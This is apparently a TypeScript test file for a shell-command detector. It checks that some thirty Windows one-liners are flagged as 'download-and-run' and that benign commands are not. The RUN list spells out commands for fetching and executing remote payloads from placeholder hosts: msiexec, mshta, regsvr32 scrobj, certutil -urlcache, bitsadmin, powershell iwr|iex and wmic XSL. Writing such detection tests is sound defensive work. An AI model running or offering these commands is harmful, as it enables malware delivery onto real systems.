import assert from 'node:assert/strict';
import { shellSignals } from '../../../../server/src/artifacts/analysis/shell/signals.js';
import { readCommand } from '../../../../server/src/artifacts/analysis/shell/commands.js';

const inCode = (command: string): readonly string[] => readCommand(command).behaviours.map(({ kind }) => kind);
const inScripts = (command: string): readonly string[] => shellSignals(command).map(({ kind }) => kind);

const RUN: readonly string[] = [
  'msiexec /i https://a.invalid/x.msi /qn',
  'msiexec.exe /q /i "https://a.invalid/get?id=1&y=2"',
  'msiexec -i https://a.invalid/get',
  'msiexec /package https://a.invalid/get /quiet',
  'msiexec /quiet /ihttps://a.invalid/get',
  "Start-Process msiexec -ArgumentList '/i','https://a.invalid/get','/qn' -Wait",
  'mshta https://a.invalid/x',
  'mshta.exe "https://a.invalid/x"',
  'mshta vbscript:Execute("GetObject(""script:https://a.invalid/x"")")',
  'regsvr32 /s /n /u /i:https://a.invalid/x.sct scrobj.dll',
  String.raw`regsvr32 /s \\203.0.113.4\share\x.dll`,
  String.raw`rundll32 \\203.0.113.4\share\x.dll,Start`,
  String.raw`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://a.invalid/x")`,
  'certutil -urlcache -split -f https://a.invalid/x a.exe && a.exe',
  String.raw`certutil.exe -f -urlcache https://a.invalid/x %TEMP%\a.exe & start %TEMP%\a.exe`,
  String.raw`bitsadmin /transfer j https://a.invalid/x %TEMP%\a.exe && %TEMP%\a.exe`,
  String.raw`bitsadmin /transfer j /download /priority high https://a.invalid/x C:\Users\Public\a.exe & C:\Users\Public\a.exe`,
  'curl.exe -o x.exe https://a.invalid/x && x.exe',
  'powershell -c "iwr https://a.invalid/x | iex"',
  'powershell iwr -useb https://a.invalid/x -OutFile a.exe; start a.exe',
  'wmic process call create "mshta https://a.invalid/x"',
  'wmic os get /format:"https://a.invalid/x.xsl"',
  String.raw`cscript //nologo \\203.0.113.4\s\x.vbs`,
  String.raw`\\203.0.113.4@80\s\x.exe`,
  String.raw`start "" \\203.0.113.4\s\x.exe`,
  'Add-AppxPackage -Path https://a.invalid/x.msix',
  'powershell -c "Add-AppxPackage https://a.invalid/x.msix"',
  'conhost.exe --headless mshta https://a.invalid/x',
  'cmd /c start /min msiexec /i https://a.invalid/x',
  String.raw`forfiles /p c:\windows /m notepad.exe /c "mshta https://a.invalid/x"`,
];

const LEFT_ALONE: readonly string[] = [
  'rundll32 url.dll,FileProtocolHandler https://a.invalid/login',
  'rundll32 url.dll,OpenURL https://a.invalid/login',
  'msiexec /i setup.msi SERVER=https://a.invalid/ /qn',
  String.raw`msiexec /i C:\Temp\node.msi`,
  'echo run msiexec /i node.msi from https://nodejs.org',
  'regsvr32 /s lib.dll',
  'wmic process get ProcessId,CommandLine',
  'start "" "https://a.invalid/login"',
  String.raw`net use Z: \\server\share`,
  String.raw`copy \\server\share\x.exe .`,
];

describe('commands that run what lies elsewhere', () => {
  for (const command of RUN) {
    it(`downloads and runs in ${command.slice(0, 70)}`, () => {
      assert.ok(inCode(command).includes('download-and-run'), 'in code');
      assert.ok(inScripts(command).includes('download-and-run'), 'in scripts');
    });
  }

  for (const command of LEFT_ALONE) {
    it(`has nothing to say about ${command.slice(0, 70)}`, () => {
      assert.ok(!inCode(command).includes('download-and-run'), 'in code');
      assert.ok(!inScripts(command).includes('download-and-run'), 'in scripts');
    });
  }
});
